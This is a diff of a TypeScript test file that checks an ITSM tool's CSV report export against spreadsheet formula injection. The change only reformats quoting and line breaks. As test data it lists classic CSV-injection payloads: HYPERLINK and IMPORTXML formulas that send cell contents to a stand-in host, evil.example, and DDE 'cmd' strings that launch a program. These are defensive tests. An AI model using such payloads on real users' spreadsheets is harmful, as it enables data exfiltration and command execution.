@@ -14,9 +14,9 @@ import { FIXTURE_NOW } from '../site/fixture.ts';
 /** What a spreadsheet would run: the classic payloads, one per dangerous first character. */
 const PAYLOADS = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '\n=1+1',
@@ -39,7 +39,10 @@ function cells(line: string): string[] {
 describe('CSV cells that a spreadsheet would run as a formula', () => {
   it.each(ONE_LINE)('the site download of the change failures neutralises a change title %j', (payload) => {
     const ws = fixtureWorkspace((files) => {
-      files['content/changes/CHG-0001.md'] = files['content/changes/CHG-0001.md']!.replace('title: Deploy new frontend bundle', `title: ${JSON.stringify(payload)}`);
+      files['content/changes/CHG-0001.md'] = files['content/changes/CHG-0001.md']!.replace(
+        'title: Deploy new frontend bundle',
+        `title: ${JSON.stringify(payload)}`,
+      );
     });
     const report = buildReport(ws, computeSla(ws, FIXTURE_NOW), { now: FIXTURE_NOW, timeZone: ws.settings.time_zone });
     const csv = toCsv(reportTables(report).find((t) => t.id === 'change-failures')!);
@@ -49,7 +52,10 @@ describe('CSV cells that a spreadsheet would run as a formula', () => {
 
   it('the site download of the top CIs neutralises a CI name, and leaves plain names alone', () => {
     const ws = fixtureWorkspace((files) => {
-      files['content/cis/CI-pg-main.md'] = files['content/cis/CI-pg-main.md']!.replace('name: Primary PostgreSQL cluster', 'name: "=IMPORTXML(CONCAT(\\"https://evil.example/?\\", A2), \\"//a\\")"');
+      files['content/cis/CI-pg-main.md'] = files['content/cis/CI-pg-main.md']!.replace(
+        'name: Primary PostgreSQL cluster',
+        'name: "=IMPORTXML(CONCAT(\\"https://evil.example/?\\", A2), \\"//a\\")"',
+      );
     });
     const report = buildReport(ws, computeSla(ws, FIXTURE_NOW), { now: FIXTURE_NOW, timeZone: ws.settings.time_zone });
     const lines = toCsv(reportTables(report).find((t) => t.id === 'top-cis')!).split('\r\n');
@@ -61,7 +67,9 @@ describe('CSV cells that a spreadsheet would run as a formula', () => {
   it.each(PAYLOADS)('`itsm report --format csv` neutralises a key %j that reached the report', (payload) => {
     const report = buildReport(WORKSPACE, SLA, { now: NOW, timeZone: ZONE });
     report.top_cis = [{ ci: payload, name: 'x', incidents: 1 }];
-    const row = reportCsv(report).split('\r\n').find((l) => l.startsWith('top_cis,'))!;
+    const row = reportCsv(report)
+      .split('\r\n')
+      .find((l) => l.startsWith('top_cis,'))!;
     expect(cells(row)).toEqual(['top_cis', 'ci', `'${payload}`, 'incidents', '1']);
   });
 
